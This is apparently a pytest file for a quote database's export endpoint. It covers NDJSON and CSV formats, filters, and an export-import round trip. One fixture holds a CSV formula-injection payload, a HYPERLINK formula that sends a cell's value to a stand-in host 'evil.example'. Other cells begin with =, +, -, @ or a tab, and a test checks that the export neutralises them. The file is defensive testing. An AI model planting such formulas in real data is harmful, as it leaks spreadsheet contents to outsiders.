"""GET /v1/export through HTTP, and the round trip: export, import into an empty
database, export again, and get the same file."""

import csv
import io
import json

import pytest

from service.app import create_app
from service.imports.formats import CSV_COLUMNS
from tests.conftest import new_key


def exported(client, **query) -> str:
    with client.get("/v1/export", query_string=query, buffered=True) as response:
        assert response.status_code == 200, response.get_data(as_text=True)
        return response.get_data(as_text=True)


def test_export_is_ndjson_in_the_import_format_by_default(client):
    response = client.get("/v1/export")
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert response.mimetype == "application/x-ndjson" and len(lines) == 46
    ushakov = next(line for line in lines if line.get("speaker", {}).get("name") == "Yuri Ushakov")
    assert "Юрий Ушаков" in ushakov["speaker"]["aliases"] and ushakov["citations"][0]["source"]["url"]


@pytest.mark.parametrize(
    "query,expected", [({"speaker": "Ushakov"}, 4), ({"lang": "ru"}, 4), ({"kind": "partial"}, 1)]
)
def test_export_takes_the_list_filters(client, query, expected):
    listed = client.get("/v1/quotes", query_string=query | {"limit": 500}).get_json()["items"]
    lines = exported(client, **query).splitlines()
    assert len(lines) == len(listed) and [json.loads(line)["text"] for line in lines] == [
        q["text"] for q in listed
    ]
    assert len(lines) >= expected


@pytest.mark.parametrize("ask", [{"query_string": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}])
def test_csv_export_has_the_import_columns_and_cyrillic_intact(client, ask):
    response = client.get("/v1/export", **ask)
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert any("Юрий Ушаков" in row["speaker_aliases"] for row in rows)


def test_invalid_filters_are_400(client):
    assert client.get("/v1/export", query_string={"format": "xml"}).status_code == 400
    assert client.get("/v1/export", query_string={"lang": "english"}).status_code == 400


SOURCE = {
    "url": "https://news.example.org/every-detail",
    "title": "-Minus title",
    "publisher": "@Publisher",
    "agency": "+Agency",
    "authors": ["=First Author", "Second Author"],
    "published_at": "2019-04-24T10:30:00+00:00",
    "lang": "en",
    "kind": "transcript",
}
# Every status, translation, citation detail and an unnamed speaker, with cells a
# spreadsheet would run as formulas (= + - @ and a tab) and cells that start with quotes.
EVERY_DETAIL = [
    {
        "text": '=HYPERLINK("https://evil.example/?leak="&A1, "click")',
        "lang": "en",
        "kind": "direct",
        "status": "verified",
        "speaker": {
            "name": "@Newsroom Desk",
            "kind": "organisation",
            "aliases": ["+Plus Desk", "'=Quoted Desk"],
            "wikidata_id": "Q4115189",
            "roles": [
                {"title": "=Spokesperson", "organisation": "Org", "from": "2019-01-01", "to": "2020-06-30"}
            ],
        },
        "speaker_role": "-the desk",
        "said_on": "2019-04-01",
        "said_on_precision": "month",
        "context": "\tTabbed context",
        "topics": ["=topic", "plain"],
        "translations": [
            {"lang": "ru", "text": "@перевод", "translator": "=Translator"},
            {"lang": "fr", "text": "traduction"},
            {"lang": "de", "text": "Übersetzung", "translator": "'quoted"},
        ],
        "citations": [
            {"source": SOURCE, "printed_text": "=printed", "attribution": "+said", "via": "@RIA"},
            {"source": {"title": "Second outlet", "publisher": "P2"}, "printed_text": "Two"},
        ],
    },
    *[
        {
            "text": f"A statement now {status}.",
            "lang": "en",
            "kind": "indirect",
            "status": status,
            "status_note": f"=note on why it is {status}",
            "speaker_description": "@an unnamed official",
            "source": {"title": "Corrections", "publisher": "Example Wire"},
        }
        for status in ("unverified", "disputed", "misattributed", "retracted")
    ],
]


def with_every_detail(client) -> None:
    body = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in EVERY_DETAIL).encode()
    response = client.post("/v1/imports", data=body, content_type="application/x-ndjson")
    assert response.get_json()["created"] == len(EVERY_DETAIL), response.get_json()


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client):
    with_every_detail(client)
    rows = list(csv.DictReader(io.StringIO(exported(client, format="csv").removeprefix("\ufeff"))))
    [row] = [row for row in rows if row["citation_printed_text"] == "'=printed"]
    assert row["text"].startswith("'=HYPERLINK") and row["speaker"] == "'@Newsroom Desk"
    assert row["context"] == "'\tTabbed context" and row["citation_attribution"] == "'+said"
    formula = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]


@pytest.mark.parametrize("data", ["demo", "every detail"])
@pytest.mark.parametrize("fmt,mimetype", [("ndjson", "application/x-ndjson"), ("csv", "text/csv")])
def test_an_export_imported_into_an_empty_database_gives_the_same_records(
    client, fresh_database, data, fmt, mimetype
):
    if data == "every detail":
        with_every_detail(client)
    records = exported(client, format="ndjson")
    original = exported(client, format=fmt)
    app = create_app(database_url=fresh_database)
    try:
        empty = app.test_client()
        empty.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {new_key(fresh_database)}"
        report = empty.post("/v1/imports", data=original.encode(), content_type=mimetype).get_json()
        assert (report["created"], report["failed"]) == (len(records.splitlines()), 0), report["errors"][:3]
        assert exported(empty, format="ndjson") == records
        assert exported(empty, format=fmt) == original
    finally:
        app.extensions["db"].engine.dispose()
